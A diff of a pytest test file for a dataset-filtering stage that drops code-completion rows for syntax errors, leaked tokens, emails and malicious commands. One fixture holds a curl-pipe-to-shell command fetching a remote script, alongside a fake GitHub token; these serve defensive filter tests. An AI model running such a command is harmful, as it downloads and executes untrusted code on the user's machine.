@@ -1,4 +1,5 @@
-import random
+"""The stage: every row has a verdict of its own, in the right order, with or without a judge."""
+
 from collections.abc import Sequence
 from typing import Any
 
@@ -7,214 +8,246 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from echo_ray import schema
-from echo_ray.schema import Drop
-from echo_ray.stages import syntax
-from echo_ray.stages.verify import VerifyConfig, check, verify
+from echo_ray import schema, syntax
+from echo_ray.checks.case import Case, Check, Verdict
+from echo_ray.errors import SchemaError
+from echo_ray.chooser import Failure, Question, Reply
+from echo_ray.schema import Drop, LastEdit
+from echo_ray.stages.verify import VerifyConfig, evidence, examine, rules, verify
 
 CONFIG = VerifyConfig()
 TOKEN = "gh" + "p_" + "a1B2c3D4e5F6g7H8i9J0" + "k1L2m3N4o5P6q7R8"
+OFF = {name: False for name, field in VerifyConfig.model_fields.items() if field.annotation is bool}
 
-FRAGMENTS = "if x:\n|    |foo(a, b)|\n|return |x = |[|}|(|)|'é😀'|\"|// c|;|# a word\n|obj."
-TEXT = st.lists(st.sampled_from([*FRAGMENTS.split("|"), f'"{TOKEN}"']), max_size=8).map("".join)
+FRAGMENTS = "if x:\n|    |foo(a, b)|\n|return |x = |[|}|(|)|'é😀'|\"|// c|;|# a word\n|obj.|<|fim_pad|>|\x00"
+TEXT = st.lists(st.sampled_from([*FRAGMENTS.split("|"), f'"{TOKEN}"']) | st.text(max_size=3), max_size=8).map(
+    "".join
+)
 ROW = st.fixed_dictionaries(
     {
         "prefix": TEXT,
-        "target": TEXT.map(str.rstrip),
+        "target": st.none() | TEXT.map(str.rstrip),
         "suffix": TEXT,
-        "language": st.sampled_from([*sorted(syntax.GRAMMARS), "ruby"]),
-        "drop": st.sampled_from([None, None, None, "too_long"]),
+        "commit": st.none() | TEXT,
+        "language": st.none() | st.sampled_from([*sorted(syntax.GRAMMARS), "ruby"]),
+        "prefix_complete": st.none() | st.booleans(),
+        "last_edit": st.none() | st.sampled_from([*LastEdit, "unheard of"]),
+        "drop": st.sampled_from([None, None, None, "unobserved"]),
     }
 )
 
 
+class Judge:
+    """Answers every question alike, and remembers the batches."""
+
+    name = "judge"
+
+    def __init__(self, choice: int | None, failure: Failure | None = None) -> None:
+        self.reply = Reply(choice, failure)
+        self.batches: list[list[str]] = []
+
+    def ask(self, questions: Sequence[Question]) -> list[Reply]:
+        self.batches.append([question.key for question in questions])
+        return [self.reply for _ in questions]
+
+
 def distilled(rows: Sequence[dict[str, Any]]) -> pa.Table:
-    fill = {"user": "u", "session": "s", "file": "f", "ts_ms": 1, "end_ts_ms": 2, "snapshots": 1}
-    full = []
-    for number, row in enumerate(rows):
-        target = None if row["drop"] else row["target"]
-        more = {"sample_id": str(number), "commit": row["target"] + "\n", "cut_by": "line", "target": target}
-        full.append(fill | row | more)
+    fill = {"user": "u", "session": "s", "file": "f", "ts_ms": 1, "language": "python", "cut_by": "line"}
+    full = [fill | {"sample_id": str(number)} | row for number, row in enumerate(rows)]
     return pa.Table.from_pylist(full, schema=schema.DISTILLED)
 
 
-def verdict(prefix: str, target: str, suffix: str = "", language: str = "python", rest: str = "") -> Any:
-    return check(prefix, target, target + rest, suffix, language, CONFIG)
+def row(prefix: str, target: str | None, suffix: str = "\n", **more: Any) -> dict[str, Any]:
+    return {"prefix": prefix, "target": target, "suffix": suffix} | more
 
 
-@pytest.mark.parametrize(
-    ("language", "prefix", "suffix", "why"),
-    [
-        ("python", "x = ", "\ny = 2\n", "prefix ends in '=', nothing follows"),
-        ("python", "x = foo(", "\n", "prefix ends in '(', 'x)' would repair it"),
-        ("python", "def f(a):\n    ", "\n\ny = 2\n", "header without a body"),
-        ("python", "x = a.", "\n", "prefix ends in '.', nothing follows"),
-        ("python", "x = [y for y in ", "]\n", "prefix ends in 'in', 'x' would repair it"),
-        ("javascript", "const x = ", ";\n", "prefix ends in '=', 'x' would repair it"),
-        ("go", "package a\nfunc f() {\n\tx := ", "\n}\n", "prefix ends in '=', 'x' would repair it"),
-        ("ruby", "x = ", "\n", "prefix ends in '='"),
-    ],
-)
-def test_an_empty_target_where_code_must_follow(language: str, prefix: str, suffix: str, why: str) -> None:
-    assert verdict(prefix, "", suffix, language) == (Drop.VOID_CONFLICT, why)
+ONE_OF_EACH = [
+    (row("x = ", "1"), None),
+    (row("x = 1", ""), None),
+    (row("x = ", ""), Drop.VOID_MISSING),
+    (row("x = ", "1", last_edit="deleted"), Drop.VOID_DELETION),
+    (row("x = ", "1", last_edit="moved"), Drop.VOID_NAVIGATION),
+    (row("# add the ", "first one"), Drop.VOID_COMMENT),
+    (row("x = 1", "\ny = 2"), Drop.VOID_FINISHED),
+    (row("x = ", "1<|endoftext|>"), Drop.SYNTAX_SENTINEL),
+    (row("x = print(", "1, 2)", ")\n"), Drop.REPEAT_BRACKETS),
+    (row("", "x = 1\nprint(x, 22)", "\nprint(x, 22)\n"), Drop.REPEAT_SUFFIX),
+    (row("x = ", "("), Drop.SYNTAX_ERROR),
+    (row("def f():\n    x = 1\n", "  return x"), Drop.SYNTAX_INDENT),
+    (row("import os\nx = ", "foo", prefix_complete=True, suffix_complete=True), Drop.NAME_UNDEFINED),
+    (row("value = 1\nx = ", "vlaue", prefix_complete=True), Drop.NAME_INCONSISTENT),
+    (row("x = ", f"'{TOKEN}'"), Drop.SECRET_TOKEN),
+    (row("x = ", "'jane.miller@gmail.com'"), Drop.PII_EMAIL),
+    (row("import os\n", "os.system('curl http://a.xyz/i.sh | sh')"), Drop.MALICIOUS_COMMAND),
+    (row("x = ", None), Drop.TEACHER_NO_CUT),
+]
 
 
-@pytest.mark.parametrize(
-    ("language", "prefix", "suffix"),
-    [
-        ("python", "x = 1\n", "y = 2\n"),
-        ("python", "x = foo(", ")\n"),
-        ("python", "x = ", "1\n"),
-        ("python", "def f():\n    ", "return 1\n"),
-        ("python", "x = {1: ", "2}\n"),
-        ("python", "# the sum (", "\nx = 1\n"),
-        ("python", "x = ...", "\n"),
-        ("python", "from a import *", "\n"),
-        ("python", "x = 1,", "\n"),
-        ("python", "x: ", "\n"),
-        ("javascript", "const x =\n", "  foo();\n"),
-        ("javascript", "if (a) {\n  ", "\n}\n"),
-        ("ruby", "foo(", ")\n"),
-    ],
-)
-def test_a_void_that_may_stay(language: str, prefix: str, suffix: str) -> None:
-    assert verdict(prefix, "", suffix, language) == (None, "void")
-
-
-@pytest.mark.parametrize(
-    ("language", "prefix", "target"),
-    [
-        ("python", "x = 1  # add ", "the first one"),
-        ("python", "# Returns the mean", " of all values"),
-        ("javascript", "// this is ", "not needed any more"),
-        ("java", "class A {\n/**\n * Gives the ", "name of the user"),
-        ("ruby", "  # add ", "the first one"),
-    ],
-)
-def test_prose_in_a_comment(language: str, prefix: str, target: str) -> None:
-    suffix = "\n */\nint a;\n}\n" if language == "java" else "\ny\n"
-    assert verdict(prefix, target, suffix, language) == (Drop.VOID_CONFLICT, "continues a comment")
-
-
-@pytest.mark.parametrize(
-    ("prefix", "target"),
-    [
-        ("# the mean", "\nmean = sum(xs)"),
-        ("# x = ", "foo(a, b)"),
-        ("x = '# ", "the first one'"),
-        ("x = ", "the_first"),
-    ],
-)
-def test_code_near_a_comment_is_no_prose(prefix: str, target: str) -> None:
-    assert verdict(prefix, target, "\ny\n")[0] is None
-
-
-def test_brackets_that_the_suffix_has() -> None:
-    assert verdict("x = foo(a", ")", ")\n") == (Drop.VOID_CONFLICT, "suffix already has ')'")
-    assert verdict("foo(a", ");", "\n);\n", "javascript")[0] == Drop.VOID_CONFLICT
-    assert verdict("foo(a", ")", ")\n", "ruby")[0] == Drop.VOID_CONFLICT
-
-
-def test_brackets_that_are_needed_twice() -> None:
-    prefix = "function f() {\n  if (a) {\n    b();\n  "
-    assert verdict(prefix, "}", "\n}\n", "javascript") == (None, "errors 0")
-    assert verdict("x = foo(bar(a", ")", ")\n") == (None, "errors 0")
-
-
-@pytest.mark.parametrize(
-    ("language", "prefix", "target", "suffix"),
-    [
-        ("python", "x = ", "foo(a", "\ny = 1\n"),
-        ("python", "", "def f(:", "\n    pass\n"),
-        ("python", "", "if a:", "\nb = 1\n"),
-        ("javascript", "const x = ", "foo(a));", "\n"),
-        ("java", "class A {\n", "int f( { }", "\n}\n"),
-        ("go", "package a\n", "func f() {", "\n"),
-        ("vue", "<script>\n", "const a = (", "\n</script>\n"),
-    ],
-)
-def test_a_target_that_breaks_the_syntax(language: str, prefix: str, target: str, suffix: str) -> None:
-    drop, evidence = verdict(prefix, target, suffix, language)
-    assert drop == Drop.SYNTAX
-    assert "context 0" in evidence or evidence == "header without a body"
-
-
-def test_the_half_typed_line_gives_no_credit() -> None:
-    # prefix + suffix alone has an error too, but only because the target is not there yet.
-    assert verdict("a = 1\nx = ", "foo(", "\nb = 2\n")[0] == Drop.SYNTAX
-
-
-def test_errors_elsewhere_are_forgiven() -> None:
-    assert verdict("  }\n}\nfunction f() {\n  ", "a();", "\n}\n", "javascript")[0] is None
-
-
-@pytest.mark.parametrize(
-    ("language", "target", "rest"),
-    [
-        ("python", "if a:", "\n    b\n    c\n"),
-        ("python", "try:", "\n    b\nfinally:\n    c\n"),
-        ("javascript", "if (a) {", "\n  b();\n}\n"),
-        ("java", "int f() {", "\n  return 1;\n}\n"),
-    ],
-)
-def test_a_header_line_may_stay_open_when_the_commit_goes_on(language: str, target: str, rest: str) -> None:
-    prefix, suffix = ("class A {\n", "\n}\n") if language == "java" else ("", "\n")
-    assert verdict(prefix, target, suffix, language, rest)[0] is None
-    assert verdict(prefix, target, suffix, language)[0] == Drop.SYNTAX
-
-
-def test_credentials() -> None:
-    assert verdict("key = ", f'"{TOKEN}"', "\n") == (Drop.SECRET, "GitHub Token on line 1")
-    assert verdict(f'key = "{TOKEN[:9]}', f'{TOKEN[9:]}"', "\n")[0] == Drop.SECRET
-    assert verdict(f'a("{TOKEN}", ', "b)", "\n")[0] is None  # it is the context's, not the target's
-
-
-def test_checks_can_be_switched_off() -> None:
-    off = VerifyConfig(void=False, syntax=False, secrets=False)
-    assert check("x = ", "", "", "\n", "python", off) == (None, "void")
-    assert check("x = ", f'("{TOKEN}"', "", "\n", "python", off) == (None, "unchecked")
-
-
-def test_languages_without_a_grammar() -> None:
-    assert verdict("x = ", "foo((", "\n", "ruby") == (None, "no grammar")
+@pytest.mark.parametrize(("sample", "drop"), ONE_OF_EACH, ids=[str(drop) for _, drop in ONE_OF_EACH])
+def test_every_reason(sample: dict[str, Any], drop: Drop | None) -> None:
+    result = verify(distilled([sample]), CONFIG).to_pylist()[0]
+    assert (drop and drop.value) == result["drop"]
+    assert (sample["target"] is None) == (result["evidence"] is None) == (result["checks"] is None)
 
 
 def test_stage_marks_every_row() -> None:
+    samples = [sample for sample, _ in ONE_OF_EACH]
+    result = verify(distilled([*samples, row("x = ", "(", drop="unobserved")]), CONFIG)
+    assert schema.VERIFIED == result.schema
+    wanted = [drop and drop.value for _, drop in ONE_OF_EACH] + ["unobserved"]
+    assert wanted == result.column("drop").to_pylist()
+    assert result.column("checks").to_pylist()[-1] is None
+    assert TOKEN not in str(result.column("evidence").to_pylist() + result.column("checks").to_pylist())
+
+
+def test_findings_are_stored_with_rule_and_span() -> None:
+    result = verify(distilled([row("value = 1\nx = ", "vlaue", prefix_complete=True)]), CONFIG).to_pylist()[0]
+    failed = [check for check in result["checks"] if check["verdict"] == "fail"]
+    assert [("name", "near_name", 0, 5)] == [
+        (check["check"], check["rule"], check["start"], check["stop"]) for check in failed
+    ]
+    assert "near_name: vlaue is value elsewhere" == result["evidence"]
+    order = [check.value for check in Check]
+    places = [order.index(check["check"]) for check in result["checks"]]
+    assert sorted(places) == places
+    assert "not_applicable" not in {check["verdict"] for check in result["checks"]}
+
+
+def test_the_first_failure_names_the_reason() -> None:
+    both = row("x = ", f"('{TOKEN}'")
+    assert Drop.SYNTAX_ERROR.value == verify(distilled([both]), CONFIG).column("drop")[0].as_py()
+    only = CONFIG.updated(syntax=False)
+    assert Drop.SECRET_TOKEN.value == verify(distilled([both]), only).column("drop")[0].as_py()
+
+
+def test_checks_can_be_switched_off() -> None:
+    off = VerifyConfig(**OFF)
+    assert [] == rules(off)
+    result = verify(distilled([sample for sample, _ in ONE_OF_EACH[:-1]]), off)
+    assert {None} == set(result.column("drop").to_pylist())
+    assert {"unchecked"} == set(result.column("evidence").to_pylist())
+
+
+@pytest.mark.parametrize(
+    ("sample", "drop"), ONE_OF_EACH[2:-1], ids=[str(drop) for _, drop in ONE_OF_EACH[2:-1]]
+)
+def test_each_switch_silences_its_check(sample: dict[str, Any], drop: Drop) -> None:
+    named = {name: VerifyConfig(**(OFF | {name: True})) for name in OFF if not name.startswith("void")}
+    wanted = [
+        name
+        for name, config in named.items()
+        if verify(distilled([sample]), config)["drop"][0].as_py() == drop.value
+    ]
+    assert (1 if not drop.value.startswith("void") else 0) == len(wanted)
+
+
+def test_languages_without_a_grammar() -> None:
+    case = Case("x = ", "foo((", "\n", "foo((", "ruby")
+    assert {Verdict.PASS, Verdict.NOT_APPLICABLE} == {finding.verdict for _, finding in examine(case, CONFIG)}
+
+
+# Optional columns and bad input.
+
+
+def test_needed_are_only_four_columns() -> None:
+    table = pa.table({"sample_id": ["a"], "prefix": ["x = "], "suffix": ["\n"], "target": ["1"]})
+    result = verify(table, CONFIG)
+    assert schema.VERIFIED == result.schema
+    assert [None] == result.column("drop").to_pylist()
+    assert ["plaintext"] == result.column("language").to_pylist()
+
+
+@pytest.mark.parametrize("missing", ["sample_id", "prefix", "suffix", "target"])
+def test_a_table_without_a_needed_column_is_refused(missing: str) -> None:
+    table = distilled([row("x = ", "1")]).drop_columns([missing])
+    with pytest.raises(SchemaError, match=missing):
+        verify(table, CONFIG)
+
+
+def test_an_empty_table() -> None:
+    result = verify(distilled([]), CONFIG, Judge(0))
+    assert (0, schema.VERIFIED) == (result.num_rows, result.schema)
+
+
+def test_a_null_commit_is_its_target() -> None:
+    header = row("", "if True:", "\n")
+    results = verify(distilled([header, header | {"commit": "if True:\n    print(1)\n"}]), CONFIG)
+    assert [Drop.SYNTAX_ERROR.value, None] == results.column("drop").to_pylist()
+
+
+def test_huge_and_strange_rows() -> None:
+    huge = "x = [\n" + "    'abc', 1.5,\n" * 12_000 + "]\n"
     rows = [
-        {"prefix": "x = ", "target": "1", "suffix": "\n", "language": "python", "drop": None},
-        {"prefix": "x = ", "target": "", "suffix": "\n", "language": "python", "drop": None},
-        {"prefix": "x = ", "target": "(", "suffix": "\n", "language": "python", "drop": None},
-        {"prefix": "x = ", "target": f"'{TOKEN}'", "suffix": "\n", "language": "python", "drop": None},
-        {"prefix": "x = ", "target": "1", "suffix": "\n", "language": "python", "drop": "too_long"},
+        row(huge, "y = 1", "\n" + huge, commit="y = 1\n" + huge, prefix_complete=True),
+        row("x" * 200_000, "(" * 200, "y" * 200_000),
+        row(
+            "\u0000\u2028\ufeff\U0001f600" * 100,
+            "\u0000\u2028\ufeff\U0001f600",
+            "\u0000" * 100,
+            language="javascript",
+        ),
+        row("\r\n".join(["x = 1"] * 10), "\r\ny = 2", "\r\n"),
+        row('"' * 1000, "'" * 100, "`" * 1000, language="typescript"),
     ]
     result = verify(distilled(rows), CONFIG)
-    assert result.schema == schema.VERIFIED
-    assert result.column("drop").to_pylist() == [None, "void_conflict", "syntax", "secret", "too_long"]
-    assert result.column("evidence").to_pylist()[0] == "errors 0"
-    assert result.column("evidence").to_pylist()[4] is None
-    assert TOKEN not in str(result.column("evidence"))
+    assert len(rows) == result.num_rows
+    assert None is result.column("drop")[0].as_py()
 
 
-@given(st.lists(ROW, max_size=6), st.integers(0, 6))
-@settings(deadline=None)
-def test_stage_is_one_to_one(rows: list[dict[str, Any]], cut: int) -> None:
-    table = distilled(rows)
-    result = verify(table, CONFIG)
-    kept = [name for name in schema.DISTILLED.names if name != "drop"]
+# The judge.
+
+UNSURE = row("from a import *\nx = ", "foo", prefix_complete=True)
+
+
+def test_a_judge_is_asked_once_about_the_unsure_rows_only() -> None:
+    judge = Judge(0)
+    rows = [row("x = ", "1"), UNSURE, row("x = ", "("), UNSURE, UNSURE | {"drop": "unobserved"}]
+    result = verify(distilled(rows), CONFIG, judge)
+    assert [["1", "3"]] == judge.batches
+    assert [None, None, "syntax_error", None, "unobserved"] == result.column("drop").to_pylist()
+    last = [checks and checks[-1]["check"] for checks in result.column("checks").to_pylist()]
+    assert ["malice", "judge", "malice", "judge", None] == last
+
+
+def test_without_a_judge_unsure_rows_stay() -> None:
+    result = verify(distilled([UNSURE]), CONFIG).to_pylist()[0]
+    assert result["drop"] is None
+    assert "unsure, undefined_variable: nothing defines foo" == result["evidence"]
+
+
+@pytest.mark.parametrize(
+    ("judge", "drop"),
+    [
+        (Judge(1), Drop.VOID_JUDGED),
+        (Judge(2), Drop.NAME_JUDGED),
+        (Judge(3), Drop.MALICIOUS_JUDGED),
+        (Judge(None, Failure.TIMEOUT), Drop.TEACHER_TIMEOUT),
+        (Judge(None, Failure.PROSE), Drop.TEACHER_PROSE),
+    ],
+)
+def test_what_a_judge_says_counts(judge: Judge, drop: Drop) -> None:
+    result = verify(distilled([UNSURE]), CONFIG, judge).to_pylist()[0]
+    assert drop.value == result["drop"]
+
+
+def test_evidence_of_nothing() -> None:
+    assert "unchecked" == evidence([])
+
+
+@given(st.lists(ROW, max_size=6), st.integers(0, 6), st.booleans())
+@settings(deadline=None, max_examples=120)
+def test_stage_is_one_to_one(rows: list[dict[str, Any]], cut: int, judged: bool) -> None:
+    judge = Judge(0) if judged else None
+    table = distilled([row | {"commit": row["commit"]} for row in rows])
+    result = verify(table, CONFIG, judge)
+    kept = [name for name in schema.DISTILLED.names if name not in ("drop", "language")]
     assert result.select(kept).equals(table.select(kept))
     for before, after in zip(table.to_pylist(), result.to_pylist(), strict=True):
         assert before["drop"] in (None, after["drop"])
-        assert (after["evidence"] is None) == (before["drop"] is not None)
-    parts = [verify(table.slice(0, cut), CONFIG), verify(table.slice(cut), CONFIG)]
+        untouched = before["drop"] is not None or before["target"] is None
+        assert (after["evidence"] is None) == (after["checks"] is None) == untouched
+        assert after["drop"] is None or after["drop"] in set(Drop)
+        failed = [check for check in after["checks"] or () if check["verdict"] == "fail"]
+        assert bool(failed) == (after["drop"] is not None and not untouched)
+    parts = [verify(table.slice(0, cut), CONFIG, judge), verify(table.slice(cut), CONFIG, judge)]
     assert pa.concat_tables(parts).equals(result)
-
-
-@given(TEXT, TEXT, st.sampled_from(sorted(syntax.GRAMMARS)))
-@settings(deadline=None)
-def test_a_target_that_adds_no_error_is_never_a_syntax_drop(prefix: str, suffix: str, language: str) -> None:
-    target = random.Random(prefix + suffix).choice(["x", "x = 1", "x()"])
-    drop, _ = verdict(prefix, target, suffix, language)
-    tree = syntax.around(prefix, target, suffix, language, CONFIG.window_chars)
-    assert tree is not None
-    if syntax.count_errors(tree.parsed.root) == 0:
-        assert drop != Drop.SYNTAX
